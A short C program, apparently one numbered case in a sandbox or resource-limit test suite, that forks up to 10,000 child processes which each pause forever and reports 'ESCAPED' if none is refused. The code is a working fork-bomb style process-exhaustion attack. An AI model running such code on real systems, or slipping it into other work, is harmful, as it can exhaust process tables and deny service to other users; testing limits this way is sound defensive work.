/* Row 27: children that only wait, until no more can be had. */
#include "attack.h"

int main(void)
{
    for (int i = 0; i < 10000; i++) {
        pid_t child = fork();
        if (child < 0)
            return finish_with_errno();
        if (child == 0)
            for (;;)
                pause();
    }
    puts("ESCAPED 10000 processes");
    return 0;
}
